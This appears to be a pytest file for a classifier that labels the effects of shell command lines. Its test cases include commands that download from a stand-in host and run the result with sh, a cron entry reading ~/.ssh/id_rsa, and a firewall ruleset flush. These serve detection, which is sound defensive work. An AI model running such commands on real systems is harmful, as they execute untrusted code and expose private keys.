"""Effects of whole commands that the examples of `programs.tbl` cannot show."""

from __future__ import annotations

import pytest
from command_effects import read_line


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("curl -s https://x.example/a -o a && cp a b && sh b", ("runs-download", "x.example")),
        ("curl -s https://x.example/a | tee a; sh a", ("runs-download", "x.example")),
        ("wget -q https://x.example/a.tgz && tar xzf a.tgz && sh ./run", ("runs-download", "x.example")),
        ("scp x.example:a . && sh a", ("runs-download", "x.example")),
        ("crontab - <<'E'\n# jobs\n5 4 * * 1 sh /opt/a.sh -q\n@daily ls\nE", ("schedules-job", "sh /opt/a.sh -q")),
        ("crontab - <<'E'\n5 4 * * 1 sh /opt/a.sh -q\n@daily ls\nE", ("schedules-job", "ls")),
        ("crontab - <<'E'\nMAILTO=ada\nE", ("schedules-job", "crontab")),
        ("crontab - <<'E'\n@daily cat ~/.ssh/id_rsa\nE", ("reads-secret", "~/.ssh/id_rsa")),
        ("nft 'flush ruleset\nadd rule inet filter input ip saddr 198.51.100.23 drop'", ("disables-check", "nft")),
        ("ip -n x route add default via 203.0.113.9", ("changes-service", "203.0.113.9")),
    ],
)
def test_a_command_has_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


def test_looking_at_the_network_changes_nothing() -> None:
    assert {kind for kind, _ in read_line("ip addr show eth0")} <= {"looks"}
